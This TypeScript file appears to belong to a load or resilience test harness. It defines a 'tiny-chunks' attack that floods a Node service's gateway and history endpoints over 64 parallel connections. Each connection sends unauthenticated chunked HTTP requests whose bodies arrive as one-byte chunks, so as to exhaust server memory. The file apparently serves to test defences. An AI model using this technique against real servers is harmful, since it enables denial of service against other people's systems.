import type { Attack } from "../attack.ts";
import { repeated } from "../attacker/frames.ts";

const CONNECTIONS = 64;
const WRITE_BYTES = 65_536;
const CHUNKS = repeated(Buffer.from("1\r\nx\r\n"), WRITE_BYTES);
const HEADS = ["POST /send", "GET /sync"].map((line) =>
  Buffer.from(`${line} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n`),
);

/** Node makes an object of each chunk of a body, and holds it until somebody reads it. Nobody needs a token for that. */
export const tinyChunks: Attack = {
  name: "tiny-chunks",
  title: `requests without a token whose bodies come in chunks of one byte, 13 MB/s on ${CONNECTIONS} connections`,
  shapes: ["split", "standalone"],
  perSecond: 200,
  unit: "writes of 64 KiB",
  run: (attacker) =>
    attacker.inParallel(CONNECTIONS, async (index) => {
      const isOdd = index % 2 === 1;
      const [head, address] = [HEADS[isOdd ? 1 : 0], isOdd ? attacker.history : attacker.gateway];
      let socket = await attacker.open(address);
      let isNew = true;
      while (await attacker.turn()) {
        const bytes: Buffer = isNew && head ? Buffer.concat([head, CHUNKS]) : CHUNKS;
        isNew = !socket || !(await attacker.write(socket, bytes));
        if (isNew) socket = await attacker.open(address);
      }
    }),
};
